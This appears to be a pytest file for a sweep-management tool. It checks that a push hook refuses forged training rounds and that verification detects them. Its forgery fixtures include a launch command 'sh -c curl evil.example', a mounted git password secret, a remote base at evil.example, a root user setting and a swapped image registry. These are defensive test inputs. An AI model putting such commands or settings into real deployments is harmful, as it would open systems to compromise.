"""A "round" that the collector's credential pushes runs, mounts or reaches something else than the round before."""

import hashlib
import json
from collections.abc import Callable
from pathlib import Path

import pytest

from sweepledger.verbs.verify import verify_since
from tests.operations.test_bootstrap import push
from tests.operations.test_pushed_rounds import NOT_ACCEPTED, amended, pristine, searching
from tests.repository import Sandbox

__all__ = ["pristine", "searching"]  # fixtures

Forge = Callable[[Path, str], None]


def named(text: str, folder: Path, batch: str) -> str:
    spec = (folder.parents[2] / "sweeps/hill.yaml").read_bytes()
    return text.replace("{batch}", batch).replace("{digest}", hashlib.sha256(spec).hexdigest())


def replaced(path: str, old: str, new: str) -> Forge:
    """Change a text in a file of the round; `{batch}` is its name, `{digest}` that of its spec."""

    def forge(folder: Path, batch: str) -> None:
        file = folder / path
        text = file.read_text()
        before, after = (named(text, folder, batch) for text in (old, new))
        assert before in text, f"{before!r} is not in {path}"
        file.write_text(text.replace(before, after))

    return forge


def appended(path: str, text: str) -> Forge:
    def forge(folder: Path, batch: str) -> None:
        with (folder / path).open("a") as file:
            file.write(text.replace("{batch}", batch))

    return forge


def reindented(folder: Path, batch: str) -> None:
    """The example of the report: a reader by lines does not see the command, but the launcher does."""
    launch = json.loads((folder / "launch.json").read_text())
    launch["command"] = ["sh", "-c", "curl evil.example"]
    (folder / "launch.json").write_text(json.dumps(launch, indent=2))


JOB, LAUNCH, LOCK, KUSTOMIZATION = "job.yaml", "launch.json", "batch.json", "kustomization.yaml"
FORGERIES: dict[str, Forge] = {
    "another command, re-indented": reindented,
    "a secret": replaced(LAUNCH, '"secrets": {}', '"secrets": {"X": "/sweep/git/password"}'),
    "a longer time": replaced(LAUNCH, '"timeout_seconds": 60', '"timeout_seconds": 999999'),
    "a remote base": replaced(
        KUSTOMIZATION, "resources:\n", 'resources:\n- "https://evil.example/x?ref=main"\n'
    ),
    "another launcher in the map": replaced(
        KUSTOMIZATION, '  - "launch.json"', '  - "launch.json"\n  - "launch.py=hyperparams.csv"'
    ),
    "another folder of the results": replaced(JOB, 'subPath: "{batch}/0"', 'subPath: "other-b1-00000000/0"'),
    "more cores": replaced(JOB, 'cpu: "1"', 'cpu: "64"'),
    "root": replaced(JOB, "runAsUser: 65532", "runAsUser: 0"),
    "another object": appended(JOB, '---\napiVersion: "v1"\nkind: "Pod"\nmetadata:\n  name: "{batch}-x"\n'),
    "other values": replaced("hyperparams.csv", ",0.", ",1."),
    "more trials": replaced(LOCK, '"trials": 3', '"trials": 4'),
    "another image in the lock": replaced(LOCK, "registry.example.org/train@", "evil.example/train@"),
    "another spec": replaced(LOCK, "{digest}", "5" * 64),
    "another round": replaced(LOCK, '"round": 2,', '"round": 3,'),
    "more retries": replaced(LOCK, '"retries": 0', '"retries": 1000'),
    "no command": lambda folder, _: (folder / LAUNCH).unlink(),
}


@pytest.mark.sampled(4)
@pytest.mark.parametrize("forgery", FORGERIES)
def test_a_round_that_is_made_otherwise_is_refused(forgery: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    FORGERIES[forgery](searching.root / "overlays/active" / batch, batch)
    amended(searching)

    assert NOT_ACCEPTED in push(searching)


def test_a_round_brings_no_change_of_another_sweep_with_it(searching: Sandbox) -> None:
    (batch,) = searching.active()
    (archived,) = (path for path in (searching.root / "overlays/archive").iterdir() if path.is_dir())
    other = batch.replace("hill-", "dale-")
    for path in (
        f"overlays/active/{other}/job.yaml",
        f"overlays/archive/{archived.name}/job.yaml",
        f"overlays/archive/{other}/job.yaml",
        f"clusters/flux/active/{other}.yaml",
        "sweeps/dale.yaml",
        "sweeps/hill.yaml",
    ):
        before = searching.git("rev-parse", "HEAD").strip()
        searching.write(path, "kind: Job\n")
        amended(searching)

        assert "the collector may push nothing but results" in push(searching), path
        searching.git("reset", "-q", "--hard", before)

    assert push(searching) == ""


@pytest.mark.sampled(1)
@pytest.mark.parametrize(
    "name", ["h..l-b.-.......d", "hill-b2-0000000", "hill-b02-00000000", "Hill-b2-00000000"]
)
def test_a_round_whose_name_is_a_pattern_or_no_name_is_refused(name: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    searching.git("mv", f"overlays/active/{batch}", f"overlays/active/{name}")
    searching.git("mv", f"clusters/flux/active/{batch}.yaml", f"clusters/flux/active/{name}.yaml")
    amended(searching)

    assert "may push nothing but results" in push(searching)


NO_RESULTS = (
    "results/.gitattributes",
    "results/hill/.gitattributes",
    "results/hill/.sweepledger/code/train.py",
    "results/hill/kustomization.yaml",
    "results/hill/figures/x/y.svg",
    "results/hill/figures/x.html",
    "results/hill/records/x.py",
    "results/hill/summary.csv/x",
    "results/hill/sub/README.md",
    "results/hi ll/README.md",
    "results/.hill/README.md",
)


@pytest.mark.sampled(2)
@pytest.mark.parametrize("path", NO_RESULTS)
def test_among_results_only_results_are_accepted(path: str, searching: Sandbox) -> None:
    file = searching.root / path
    if file.parent.is_file():
        file.parent.unlink()
    searching.write(path, "x\n")
    searching.git("add", "--all", "--force", "results")
    searching.git("commit", "-q", "--amend", "--no-edit")

    assert "may push nothing but results" in push(searching)


def test_a_batch_is_archived_only_with_its_records(searching: Sandbox) -> None:
    searching.git("rm", "-rq", "--cached", "results")
    searching.git("commit", "-q", "--amend", "--no-edit")

    assert "was moved without results/hill/records/" in push(searching)


def test_what_another_ref_shows_in_place_of_a_commit_is_not_judged(searching: Sandbox) -> None:
    assert push(searching) == ""
    start = searching.git("rev-parse", "HEAD").strip()
    searching.write("results/hill/README.md", "x\n")
    good = searching.commit("Results")
    searching.git("reset", "-q", "--hard", start)
    searching.write("code/train.py", "evil\n")
    evil = searching.commit("Code")

    assert push(searching, f"{good}:refs/replace/{evil}", pusher="ada") == ""
    assert "code/train.py" in push(searching, f"{evil}:refs/heads/main")


@pytest.mark.parametrize("forgery", ["a secret", "more cores", "other values"])
def test_on_a_host_without_hooks_a_forged_round_is_found(forgery: str, searching: Sandbox) -> None:
    (batch,) = searching.active()
    assert verify_since(searching.workspace, "origin/main").is_good
    FORGERIES[forgery](searching.root / "overlays/active" / batch, batch)
    amended(searching)

    verification = verify_since(searching.workspace, "origin/main")

    assert not verification.is_good
    assert any(difference.path.startswith(f"overlays/active/{batch}") for difference in verification.stray)
